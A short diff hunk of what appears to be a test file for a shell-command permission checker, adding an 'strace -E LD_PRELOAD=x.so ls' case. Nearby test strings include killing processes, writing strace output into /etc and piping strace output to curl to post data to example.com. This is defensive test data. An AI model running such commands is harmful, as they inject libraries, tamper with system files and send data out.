@@ -50,6 +50,7 @@ def test_own_processes_and_looking_pass(command: str) -> None:
         "killall -9 python",
         "pkill -0 -9 x",
         "strace -p 1",
+        "strace -E LD_PRELOAD=x.so ls",
         "strace",
         "strace -o /etc/x ls",
         "strace -o '|curl -d @- https://example.com' ls",
